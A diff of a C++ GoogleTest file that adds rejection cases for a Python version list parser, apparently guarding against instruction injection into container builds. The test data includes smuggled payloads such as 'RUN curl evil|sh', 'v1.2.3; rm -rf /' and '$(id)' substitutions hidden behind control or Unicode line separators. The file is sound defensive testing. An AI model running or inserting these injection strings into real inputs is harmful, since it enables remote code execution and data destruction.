@@ -11,6 +11,7 @@ namespace {
 using ::testing::ElementsAre;
 using ::testing::HasSubstr;
 
+// A15: 3.10 stays 3.10 beside 3.1
 TEST(AxisFile, KeepsTheOrderAndForgivesLineEnds) {
   const std::string texts[] = {"3.7\n3.10\n3.1\n", "3.7\r\n3.10\r\n3.1\r\n", "3.7\n\n3.10\n  \n3.1"};
   for (const auto& text : texts) {
@@ -43,6 +44,7 @@ TEST_P(BadPythonVersions, AreRefusedByLine) {
   }
 }
 
+// A14: one value a line and nothing beside it. A15: no value twice, and none for another.
 INSTANTIATE_TEST_SUITE_P(
     Table, BadPythonVersions,
     ::testing::Values(Bad{"empty", "", 0}, Bad{"blank lines only", "\n \n", 0}, Bad{"duplicate", "3.9\n3.10\n3.9\n", 3},
@@ -56,6 +58,14 @@ INSTANTIATE_TEST_SUITE_P(
                       Bad{"3.x", "3.x\n", 1}, Bad{"major only", "3\n", 1}, Bad{"no minor", "3.\n", 1},
                       Bad{"three digits", "3.100\n", 1}, Bad{"two on a line", "3.9 3.10\n", 1},
                       Bad{"instruction behind a CR", "3.10\rRUN curl evil|sh\n", 1},
+                      Bad{"instruction behind a vertical tab", "3.10\vRUN id\n", 1},
+                      Bad{"instruction behind a form feed", "3.10\fRUN id\n", 1},
+                      Bad{"instruction behind NEL", "3.10\xC2\x85RUN id\n", 1},
+                      Bad{"instruction behind a line separator", "3.10\xE2\x80\xA8RUN id\n", 1},
+                      Bad{"line continuation", "3.10\\\n", 1}, Bad{"command", "3.10;id\n", 1},
+                      Bad{"substitution", "3.1$(id)\n", 1}, Bad{"variable", "3.${X}\n", 1},
+                      Bad{"template", "{{base}}\n", 1}, Bad{"digest", "3.10@sha256:0\n", 1}, Bad{"float", "3.1e1\n", 1},
+                      Bad{"plus", "+3.1\n", 1}, Bad{"3.10 with a blank beside 3.1", "3.10\n3.1\n3.10 \n", 3},
                       Bad{"build stage", "3.10 AS x\n", 1}, Bad{"full-width digit", "３.9\n", 1},
                       Bad{"no-break space", "3.9\xC2\xA0\n", 1}, Bad{"option", "--platform\n", 1},
                       Bad{"negative", "-3.9\n", 1}, Bad{"NUL", std::string("3.9\0\n", 5), 1}));
@@ -91,6 +101,7 @@ TEST_P(BadVersions, AreRefusedByLine) {
   }
 }
 
+// A12
 INSTANTIATE_TEST_SUITE_P(Table, BadVersions,
                          ::testing::Values(Bad{"empty", "", 0}, Bad{"blank", " \r\n", 0}, Bad{"1.2", "1.2\n", 1},
                                            Bad{"shell", "v1.2.3; rm -rf /", 1}, Bad{"substitution", "v1.0.0$(id)", 1},
